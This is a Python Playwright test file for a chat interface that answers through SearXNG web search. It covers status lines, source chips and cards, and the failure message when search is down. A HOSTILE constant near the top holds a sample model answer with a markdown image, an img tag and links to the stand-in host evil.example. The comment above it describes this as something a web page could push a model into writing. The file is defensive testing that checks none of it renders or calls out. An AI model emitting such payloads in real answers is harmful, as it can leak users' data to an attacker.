"""Turns that search first, over the real SearXNG: status lines, chips, cards; and its failure."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.harness.searxng import RealSearxng
from tests.servers import Steps, words
from tests.servers.sample_facts import facts

from .conftest import Shoot
from .page import ChatPage
from .stack import Stack

FACT = facts()[0]
COUNTED = r"\d sources?( \(.+\))?, \d+\.\d s"
# What a page could talk a model into: a picture that tells somebody, and links to nowhere good.
HOSTILE = (
    "A car pays 4.20 crowns [1], others said less [2]. ![x](http://evil.example/?q=1) See "
    "[this](http://evil.example/) or <img src='http://evil.example/2'> and [99]."
)


@pytest.fixture(autouse=True)
def _searxng(stack: Stack) -> RealSearxng:
    return stack.searxng


def says_it(body: dict[str, Any]) -> Steps:
    return words(HOSTILE)


def test_an_answer_with_sources(chat: ChatPage, stack: Stack, shoot: Shoot) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    stack.house.judge("MODERATE", 0.9, search=0.97)
    stack.house.answer_with(says_it)
    message = chat.ask(FACT.question)
    chat.settled()
    shoot("sources")
    lines = message.statuses()
    shoot("sources-history")
    assert f"Searching\n{FACT.question}" in lines
    assert any(re.fullmatch(r"Reading \d pages", line) for line in lines)
    counted = [line for line in lines if re.fullmatch(COUNTED, line)]
    titles = message.sources()
    assert counted[0].startswith(f"{len(titles)} sources")
    assert FACT.title in titles

    assert message.text.startswith("A car pays 4.20 crowns")
    assert "See this or" in message.text
    assert message.box.locator("#response-content-container").locator("img, a").count() == 0
    chips = [chip.get_attribute("aria-label") for chip in message.chips().all()]
    assert chips == [f"View source: {title}" for title in titles[:2]]
    outside = [url for url in asked if not url.startswith((stack.webui.url, "data:", "blob:"))]
    assert outside == []


def test_a_chip_opens_the_card_of_its_source(chat: ChatPage, stack: Stack, shoot: Shoot) -> None:
    stack.house.judge("MODERATE", 0.9, search=0.97)
    stack.house.answer_with(says_it)
    message = chat.ask(FACT.question)
    chat.settled()
    title = message.sources()[0]
    message.chips().first.click()
    card = chat.page.get_by_role("dialog")
    link = card.get_by_role("link", name=title, exact=True)
    expect(link).to_be_visible()
    shoot("source-card")
    page = stack.site.page_at(link.get_attribute("href") or "")
    assert page is not None
    assert page.title == title
    shown = " ".join(card.inner_text().split())
    assert any(" ".join(text.split())[:40] in shown for text in page.paragraphs)
    targets = [link.get_attribute("href") or "" for link in card.get_by_role("link").all()]
    assert all(stack.site.page_at(target.partition("#")[0]) for target in targets)


def test_a_search_that_fails_is_admitted(chat: ChatPage, stack: Stack, shoot: Shoot) -> None:
    stack.searxng.stop()
    try:
        message = chat.ask("/web How large is the main mirror of the Pell Observatory?")
        lines = message.statuses()
        shoot("search-down")
    finally:
        stack.searxng.start()
    (told,) = [line for line in lines if line.startswith("No sources: ")]
    assert "the search failed: nothing listens at" in told
    assert "Start SearXNG, or set SEARXNG_URL" in told
    assert message.chips().count() == 0
    (row,) = stack.house.log.of_turn("lookup", stack.turn(message.id)["id"])
    assert row["problem"].startswith("nothing listens at")
    assert row["sources"] == 0
